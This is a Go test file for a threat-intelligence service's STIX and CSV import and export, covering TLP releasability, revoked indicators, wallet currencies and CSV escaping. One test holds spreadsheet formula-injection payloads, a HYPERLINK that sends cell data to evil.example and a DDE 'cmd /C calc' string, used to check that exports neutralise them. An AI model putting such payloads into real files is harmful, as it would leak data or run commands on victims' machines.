package reports

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/manara-hub/manara/internal/core"
	"github.com/manara-hub/manara/internal/records"
	"github.com/manara-hub/manara/internal/store/storetest"
)

func stixViewer(bureau, role string) core.Viewer {
	return core.Viewer{Bureau: bureau, Role: role, UserID: "u-" + bureau + "-" + role, Permissions: core.RolePermissions(role)}
}

func stixExport(t *testing.T, s *Service, v core.Viewer) Bundle {
	t.Helper()
	var buf bytes.Buffer
	if _, err := s.ExportSTIX(context.Background(), v, &buf); err != nil {
		t.Fatalf("export: %v", err)
	}
	var b Bundle
	if err := json.Unmarshal(buf.Bytes(), &b); err != nil {
		t.Fatalf("export is not JSON: %v", err)
	}
	return b
}

// TestTLP2MarkingsKeepTheirAudience: STIX 2.1 bundles of today
// mark with the TLP 2.0 marking definitions (CLEAR, GREEN, AMBER,
// AMBER+STRICT, RED; cti-stix-common-objects / the TLP 2.0 extension).
// The README: "RED to the importer alone", AMBER to amber_to (here none:
// the importer alone). An indicator marked TLP:RED (2.0) must not become
// releasable to all members and appear in another bureau's export.
func TestTLP2MarkingsKeepTheirAudience(t *testing.T) {
	const (
		tlp2Red         = "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"
		tlp2Amber       = "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"
		tlp2AmberStrict = "marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003"
	)
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			bundle := `{"type":"bundle","id":"bundle--7f1c","objects":[
{"type":"indicator","spec_version":"2.1","id":"indicator--1","pattern":"[domain-name:value = 'red-tlp2.example']","pattern_type":"stix","object_marking_refs":["` + tlp2Red + `"]},
{"type":"indicator","spec_version":"2.1","id":"indicator--2","pattern":"[domain-name:value = 'amber-tlp2.example']","pattern_type":"stix","object_marking_refs":["` + tlp2Amber + `"]},
{"type":"indicator","spec_version":"2.1","id":"indicator--3","pattern":"[domain-name:value = 'amberstrict-tlp2.example']","pattern_type":"stix","object_marking_refs":["` + tlp2AmberStrict + `"]}]}`
			inds, err := ParseSTIX([]byte(bundle), nil)
			if err != nil {
				t.Fatal(err)
			}
			for i, ind := range inds {
				if ind.Releasability.Mode == core.ReleaseAll {
					t.Errorf("objects[%d] (%s), marked %s, is read as releasable to all members", i, ind.Value, []string{"TLP:RED", "TLP:AMBER", "TLP:AMBER+STRICT"}[i])
				}
			}
			if _, err := s.Import(ctx, stixViewer("MA", core.RoleOfficer), inds); err != nil {
				t.Fatal(err)
			}
			got := stixExport(t, s, stixViewer("DE", core.RoleAnalyst))
			for _, o := range got.Objects {
				if o["type"] == "indicator" {
					t.Errorf("DE's export holds MA's TLP-2.0-marked indicator %v (marked %v)", o["pattern"], o["object_marking_refs"])
				}
			}
		})
	}
}

// TestExportReimports: what one bureau exports another imports
// (README: "What one bureau exports another imports, releasability kept");
// an Ethereum or Tron wallet exported as x-manara-crypto-wallet (with
// its currency) must come back as the same wallet, not be refused as a
// Bitcoin address.
func TestExportReimports(t *testing.T) {
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			inds, err := ParseCSV([]byte("type,value\neth,0x52908400098527886E0F7030069857D2E4169EE7\n"))
			if err != nil {
				t.Fatal(err)
			}
			if _, err := s.Import(ctx, stixViewer("MA", core.RoleOfficer), inds); err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			if _, err := s.ExportSTIX(ctx, stixViewer("FR", core.RoleOfficer), &buf); err != nil {
				t.Fatal(err)
			}
			round, err := ParseSTIX(buf.Bytes(), nil)
			if err != nil {
				t.Fatalf("FR reading MA's export: %v", err)
			}
			recs, err := s.Import(ctx, stixViewer("FR", core.RoleOfficer), round)
			if err != nil {
				t.Fatalf("FR importing MA's export of an Ethereum wallet: %v\n(read as %+v)", err, round)
			}
			var d map[string]any
			json.Unmarshal(recs[0].Data, &d)
			if d["type"] != "eth" {
				t.Errorf("the wallet came back as %v, want eth", d["type"])
			}
		})
	}
}

// TestExportHasNoDanglingRefs: every reference an exported
// indicator makes (created_by_ref, the observable) names an object of the
// bundle, or one of the TLP marking definitions STIX predefines.
func TestExportHasNoDanglingRefs(t *testing.T) {
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			inds, err := ParseCSV([]byte("type,value\ndomain,fictitious-shop.example\n"))
			if err != nil {
				t.Fatal(err)
			}
			if _, err := s.Import(ctx, stixViewer("MA", core.RoleOfficer), inds); err != nil {
				t.Fatal(err)
			}
			bundle := stixExport(t, s, stixViewer("FR", core.RoleAnalyst))
			ids := map[string]bool{TLPWhite: true, TLPGreen: true, TLPAmber: true, TLPRed: true}
			for _, o := range bundle.Objects {
				id, _ := o["id"].(string)
				ids[id] = true
			}
			n := 0
			for _, o := range bundle.Objects {
				for k, v := range o {
					var refs []string
					switch {
					case strings.HasSuffix(k, "_ref"):
						if s, ok := v.(string); ok {
							refs = append(refs, s)
						}
					case strings.HasSuffix(k, "_refs"):
						for _, x := range v.([]any) {
							refs = append(refs, x.(string))
						}
					}
					for _, r := range refs {
						n++
						if !ids[r] {
							t.Errorf("%s.%s = %s names no object of the bundle", o["id"], k, r)
						}
					}
				}
			}
			if n == 0 {
				t.Fatal("no reference checked")
			}
		})
	}
}

// TestCSVExportNoFormulas: the CSV export is opened in
// spreadsheets; a cell the importer wrote (description, campaign) must
// not start with = + - @ as typed (formula injection): it is escaped
// (e.g. a leading apostrophe) or refused on import.
func TestCSVExportNoFormulas(t *testing.T) {
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			file := "type,value,campaign,description\n" +
				`domain,formula-one.example,@SUM(1+1),"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"` + "\n" +
				`domain,formula-two.example,+cmd|' /C calc'!A0,-2+3` + "\n"
			inds, err := ParseCSV([]byte(file))
			if err != nil {
				t.Fatal(err)
			}
			imported, err := s.Import(ctx, stixViewer("MA", core.RoleOfficer), inds)
			if err != nil {
				t.Fatalf("import of cells that look like formulas: %v", err)
			}
			if len(imported) != 2 {
				t.Fatalf("imported %d", len(imported))
			}
			var buf bytes.Buffer
			if _, err := s.ExportCSV(ctx, stixViewer("FR", core.RoleAnalyst), &buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			head := rows[0]
			for _, row := range rows[1:] {
				for _, col := range []string{"campaign", "description"} {
					cell := row[slices.Index(head, col)]
					if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
						t.Errorf("exported %s cell %q starts with %q: a spreadsheet runs it as a formula", col, cell, cell[:1])
					}
				}
			}
		})
	}
}

// TestRevokedOrExpiredSTIXNotImportedLive: a STIX indicator its
// producer revoked ("revoked": true) or whose valid_until has passed is
// no longer evidence of malicious activity; importing it as a live cyber
// indicator record (screened by every border system it is released to)
// is wrong: it is refused naming the object, or passed over.
func TestRevokedOrExpiredSTIXNotImportedLive(t *testing.T) {
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			bundle := `{"type":"bundle","id":"bundle--9a2e","objects":[
{"type":"indicator","spec_version":"2.1","id":"indicator--a1","created":"2024-01-01T00:00:00Z","modified":"2025-03-01T00:00:00Z","valid_from":"2024-01-01T00:00:00Z","revoked":true,"pattern":"[domain-name:value = 'revoked-shop.example']","pattern_type":"stix"},
{"type":"indicator","spec_version":"2.1","id":"indicator--a2","created":"2024-01-01T00:00:00Z","modified":"2024-01-01T00:00:00Z","valid_from":"2024-01-01T00:00:00Z","valid_until":"2024-02-01T00:00:00Z","pattern":"[domain-name:value = 'expired-shop.example']","pattern_type":"stix"}]}`
			inds, err := ParseSTIX([]byte(bundle), nil)
			if err != nil {
				return // refused: fine
			}
			if len(inds) == 0 {
				return // passed over: fine
			}
			recs, err := s.Import(ctx, stixViewer("MA", core.RoleOfficer), inds)
			if err != nil {
				return
			}
			for _, r := range recs {
				if r.Status == core.StatusActive {
					t.Errorf("imported as a live indicator record: %s", r.Data)
				}
			}
		})
	}
}

// TestSTIXMarkingsRead: how each TLP marking (1.0 or 2.0, predefined or
// defined in the bundle) sets an imported indicator's audience; a marking
// that does not read is refused naming the indicator's
// object_marking_refs, never taken for all members.
func TestSTIXMarkingsRead(t *testing.T) {
	const custom = "marking-definition--0d6b7a3e-5c1f-4e52-9a8f-2b7c1d0e9f01"
	ind := func(refs ...string) string {
		b, _ := json.Marshal(refs)
		return `{"type":"indicator","spec_version":"2.1","id":"indicator--x","pattern":"[domain-name:value = 'marked.example']","pattern_type":"stix","object_marking_refs":` + string(b) + `}`
	}
	def := func(body string) string {
		return `{"type":"marking-definition","spec_version":"2.1","id":"` + custom + `","created":"2022-10-01T00:00:00Z",` + body + `}`
	}
	all := core.Releasability{Mode: core.ReleaseAll}
	fr := core.Releasability{Mode: core.ReleaseOnly, Countries: []string{"FR"}}
	alone := core.Releasability{Mode: core.ReleaseOnly}
	for _, c := range []struct {
		name    string
		objects []string
		want    core.Releasability
	}{
		{"TLP 1.0 WHITE", []string{ind(TLPWhite)}, all},
		{"TLP 1.0 GREEN", []string{ind(TLPGreen)}, all},
		{"TLP 1.0 AMBER", []string{ind(TLPAmber)}, fr},
		{"TLP 1.0 RED", []string{ind(TLPRed)}, alone},
		{"TLP 2.0 CLEAR", []string{ind(TLP2Clear)}, all},
		{"TLP 2.0 GREEN", []string{ind(TLP2Green)}, all},
		{"TLP 2.0 AMBER", []string{ind(TLP2Amber)}, fr},
		{"TLP 2.0 AMBER+STRICT", []string{ind(TLP2AmberStrict)}, alone}, // its recipient's organisation only
		{"TLP 2.0 RED", []string{ind(TLP2Red)}, alone},
		{"no marking", []string{ind()}, alone},
		{"the narrowest of two", []string{ind(TLP2Green, TLP2Red)}, alone},
		{"TLP 1.0 defined in the bundle", []string{def(`"definition_type":"tlp","definition":{"tlp":"red"}`), ind(custom)}, alone},
		{"TLP 2.0 extension in the bundle", []string{def(`"name":"TLP:AMBER+STRICT","extensions":{"extension-definition--60a3c5c5-0d10-413e-aab3-9e08dde9e88d":{"extension_type":"property-extension","tlp_2_0":"amber+strict"}}`), ind(custom)}, alone},
		{"TLP 2.0 name in the bundle", []string{ind(custom), def(`"name":"TLP:GREEN"`)}, all},
		{"a statement alone", []string{def(`"definition_type":"statement","definition":{"statement":"Copyright 2026 a fictitious CERT"}`), ind(custom)}, alone},
		{"a statement and GREEN", []string{def(`"definition_type":"statement","definition":{"statement":"Copyright 2026 a fictitious CERT"}`), ind(custom, TLP2Green)}, all},
		{"a predefined RED redefined as GREEN", []string{`{"type":"marking-definition","id":"` + TLP2Red + `","name":"TLP:GREEN"}`, ind(TLP2Red)}, alone},
		{"x_manara_releasability", []string{`{"type":"indicator","pattern":"[domain-name:value = 'marked.example']","object_marking_refs":["` + TLPAmber + `"],"x_manara_releasability":{"mode":"except","countries":["DE"]}}`},
			core.Releasability{Mode: core.ReleaseExcept, Countries: []string{"DE"}}},
	} {
		raw := `{"type":"bundle","id":"bundle--m","objects":[` + strings.Join(c.objects, ",") + `]}`
		inds, err := ParseSTIX([]byte(raw), []string{"FR"})
		if err != nil || len(inds) != 1 {
			t.Errorf("%s: %v %+v", c.name, err, inds)
			continue
		}
		if got := inds[0].Releasability; got.Mode != c.want.Mode || !slices.Equal(got.Countries, c.want.Countries) {
			t.Errorf("%s: read as %+v, want %+v", c.name, got, c.want)
		}
	}
	for _, c := range []struct {
		name    string
		objects []string
		field   string
	}{
		{"an unknown id", []string{ind(TLP2Green, custom)}, "objects[0].object_marking_refs"},
		{"an unknown TLP level", []string{def(`"definition_type":"tlp","definition":{"tlp":"purple"}`), ind(custom)}, "objects[1].object_marking_refs"},
		{"another kind of marking", []string{def(`"definition_type":"x-acme-caveat","definition":{"caveat":"NOFORN"}`), ind(custom)}, "objects[1].object_marking_refs"},
		{"parts that disagree, one unread", []string{def(`"name":"TLP:GREEN","definition_type":"tlp","definition":{"tlp":"ultraviolet"}`), ind(custom)}, "objects[1].object_marking_refs"},
	} {
		raw := `{"type":"bundle","id":"bundle--m","objects":[` + strings.Join(c.objects, ",") + `]}`
		inds, err := ParseSTIX([]byte(raw), []string{"FR"})
		var e *core.Error
		if !errors.As(err, &e) || len(e.Fields) != 1 || e.Fields[0].Field != c.field {
			t.Errorf("%s: %v %+v; want a refusal naming %s", c.name, err, inds, c.field)
		}
	}
}

// TestSTIXWalletCurrency: a wallet's currency is its observable's, found
// by x_manara_observable_ref or by value, else the address's own; a
// currency Manara does not screen is refused naming the observable.
func TestSTIXWalletCurrency(t *testing.T) {
	const eth, trx = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t"
	wind := func(val, ref string) string {
		return `{"type":"indicator","pattern":"[x-manara-crypto-wallet:value = '` + val + `']","object_marking_refs":["` + TLP2Green + `"],"x_manara_observable_ref":"` + ref + `"}`
	}
	obs := func(id, val, cur string) string {
		return `{"type":"x-manara-crypto-wallet","id":"` + id + `","value":"` + val + `","currency":"` + cur + `"}`
	}
	for _, c := range []struct {
		name    string
		objects []string
		want    string
	}{
		{"by reference", []string{wind(eth, "x-manara-crypto-wallet--1"), obs("x-manara-crypto-wallet--1", eth, "eth")}, "eth"},
		{"by value", []string{obs("x-manara-crypto-wallet--2", trx, "TRX"), wind(trx, "")}, "trx"},
		{"detected", []string{wind(trx, "")}, "trx"},
		{"detected ethereum", []string{wind(eth, "")}, "eth"},
		{"detected bitcoin", []string{wind("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "")}, "btc"},
	} {
		inds, err := ParseSTIX([]byte(`{"type":"bundle","objects":[`+strings.Join(c.objects, ",")+`]}`), nil)
		if err != nil || len(inds) != 1 || inds[0].Type != c.want {
			t.Errorf("%s: %v %+v; want %s", c.name, err, inds, c.want)
		}
	}
	_, err := ParseSTIX([]byte(`{"type":"bundle","objects":[`+wind(eth, "x-manara-crypto-wallet--3")+`,`+obs("x-manara-crypto-wallet--3", eth, "xmr")+`]}`), nil)
	var e *core.Error
	if !errors.As(err, &e) || len(e.Fields) != 1 || e.Fields[0].Field != "objects[1].currency" {
		t.Errorf("a Monero wallet: %v", err)
	}
}

// TestSTIXRevokedAndExpiredPassedOver: revoked and expired indicators
// keep their place in the file's numbering, say why they were passed
// over, and are not stored; the others are, and a refusal still names the
// file's indicator. A valid_until that does not read is refused.
func TestSTIXRevokedAndExpiredPassedOver(t *testing.T) {
	now := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	bundle := `{"type":"bundle","objects":[
{"type":"indicator","id":"indicator--r","revoked":true,"pattern":"[file:hashes.MD5 = 'x'] OR [a:b = 'c']"},
{"type":"indicator","id":"indicator--live","valid_until":"2027-01-01T00:00:00Z","pattern":"[domain-name:value = 'still-live.example']","object_marking_refs":["` + TLP2Green + `"]},
{"type":"indicator","id":"indicator--e","valid_until":"2026-02-28T23:59:59.5+01:00","pattern":"[domain-name:value = 'expired.example']"},
{"type":"indicator","id":"indicator--bad","pattern":"[email-addr:value = 'not an address']","object_marking_refs":["` + TLP2Green + `"]}]}`
	inds, err := parseSTIX([]byte(bundle), nil, now)
	if err != nil || len(inds) != 4 {
		t.Fatalf("%v %+v", err, inds)
	}
	want := [][]string{{"revoked is true (indicator--r): passed over, not imported"}, nil,
		{"valid_until 2026-02-28T22:59:59Z has passed (indicator--e): passed over, not imported"}, nil}
	for i, ind := range inds {
		if ind.PassedOver != (want[i] != nil) || !slices.Equal(ind.Notes, want[i]) {
			t.Errorf("indicators[%d]: passed over %v, notes %q; want %q", i, ind.PassedOver, ind.Notes, want[i])
		}
	}
	if _, err := parseSTIX([]byte(`{"type":"bundle","objects":[{"type":"indicator","valid_until":"next week","pattern":"[domain-name:value = 'a.example']"}]}`), nil, now); core.ErrorCode(err) != core.EINVALID || !strings.Contains(err.Error(), "objects[0].valid_until") {
		t.Errorf("an unreadable valid_until: %v", err)
	}
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			ma := stixViewer("MA", core.RoleOfficer)
			_, err := s.Import(ctx, ma, inds)
			var e *core.Error
			if !errors.As(err, &e) || len(e.Fields) != 1 || e.Fields[0].Field != "indicators[3].value" {
				t.Fatalf("the bad e-mail is the file's indicators[3]: %v", err)
			}
			recs, err := s.Import(ctx, ma, inds[:3])
			if err != nil || len(recs) != 1 || !strings.Contains(string(recs[0].Data), "still-live.example") {
				t.Fatalf("%v %d records", err, len(recs))
			}
			// All passed over: nothing stored, no refusal (the notes say why),
			// but who may not create records is still refused.
			if recs, err := s.Import(ctx, ma, []ImportedIndicator{inds[0], inds[2]}); err != nil || len(recs) != 0 {
				t.Errorf("all passed over: %v %d", err, len(recs))
			}
			if _, err := s.Import(ctx, stixViewer("MA", core.RoleAnalyst), []ImportedIndicator{inds[0]}); core.ErrorCode(err) != core.EFORBIDDEN {
				t.Errorf("an analyst importing: %v", err)
			}
		})
	}
}

// TestCSVExportReimports: what the CSV export neutralised (a phone's +, a
// description's =, a campaign's leading quote) a CSV import reads back as
// it was, into the same records.
func TestCSVExportReimports(t *testing.T) {
	for _, s := range []string{"", "plain", "+212612345678", "=1+1", "-2", "@SUM(A1)", "\tx", "\rx", "'", "'=x", "''", "'plain", "a=b"} {
		c := csvCell(s)
		if c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
			t.Errorf("csvCell(%q) = %q starts a formula", s, c)
		}
		if u := csvUncell(c); u != s {
			t.Errorf("csvUncell(csvCell(%q)) = %q", s, u)
		}
	}
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			file := "type,value,campaign,description\n" +
				`phone,+212612345678,'Quoted campaign,=1+1` + "\n" +
				`email,-dash@fictitious-mail.example,-2+3,"@SUM(1,1)"` + "\n"
			inds, err := ParseCSV([]byte(file))
			if err != nil {
				t.Fatal(err)
			}
			first, err := s.Import(ctx, stixViewer("MA", core.RoleOfficer), inds)
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			if _, err := s.ExportCSV(ctx, stixViewer("MA", core.RoleOfficer), &buf); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(buf.String(), ",'+212612345678,") || !strings.Contains(buf.String(), ",'=1+1") || !strings.Contains(buf.String(), ",''Quoted campaign,") {
				t.Errorf("export: %s", buf.String())
			}
			round, err := ParseCSV(buf.Bytes())
			if err != nil {
				t.Fatal(err)
			}
			again, err := s.Import(ctx, stixViewer("FR", core.RoleOfficer), round)
			if err != nil {
				t.Fatalf("FR importing MA's CSV export: %v", err)
			}
			key := func(recs []*core.Record) []string {
				var out []string
				for _, r := range recs {
					var d map[string]any
					json.Unmarshal(r.Data, &d)
					out = append(out, fmt.Sprint(d["type"], "|", d["value"], "|", d["campaign"], "|", d["description"]))
				}
				slices.Sort(out)
				return out
			}
			if a, b := key(first), key(again); !slices.Equal(a, b) {
				t.Errorf("re-imported as %q, want %q", b, a)
			}
		})
	}
}

// TestExportKeepsNoFurtherDissemination: a record its owner marked "no
// further dissemination" goes out as TLP 2.0 AMBER+STRICT (the recipient's
// organisation only), with its caveats, even when released to all; the
// CSV carries the caveats too.
func TestExportKeepsNoFurtherDissemination(t *testing.T) {
	for _, b := range storetest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			s := newService(t, b)
			ctx := context.Background()
			ma := stixViewer("MA", core.RoleOfficer)
			if _, err := s.Records.Create(ctx, ma, records.Input{Kind: core.KindCyberIndicator, Releasability: &core.Releasability{Mode: core.ReleaseAll},
				Caveats: []string{core.CaveatNoFurtherDissemination},
				Data:    json.RawMessage(`{"type":"domain","value":"kept-close.example"}`)}); err != nil {
				t.Fatal(err)
			}
			fr := stixViewer("FR", core.RoleAnalyst)
			found := false
			for _, o := range stixExport(t, s, fr).Objects {
				var ind struct {
					Type     string   `json:"type"`
					Markings []string `json:"object_marking_refs"`
					Caveats  []string `json:"x_manara_caveats"`
				}
				raw, _ := json.Marshal(o)
				json.Unmarshal(raw, &ind)
				if ind.Type != "indicator" {
					continue
				}
				found = true
				if !slices.Equal(ind.Markings, []string{TLP2AmberStrict}) || !slices.Contains(ind.Caveats, core.CaveatNoFurtherDissemination) {
					t.Errorf("exported with markings %v and caveats %v, want AMBER+STRICT and the caveat", ind.Markings, ind.Caveats)
				}
			}
			if !found {
				t.Fatal("the indicator was not exported")
			}
			var buf bytes.Buffer
			if _, err := s.ExportCSV(ctx, fr, &buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("CSV: %v %v", rows, err)
			}
			if c := slices.Index(rows[0], "caveats"); c < 0 || rows[1][c] != core.CaveatNoFurtherDissemination {
				t.Errorf("CSV header %v, row %v: want the caveat in a caveats column", rows[0], rows[1])
			}
		})
	}
}
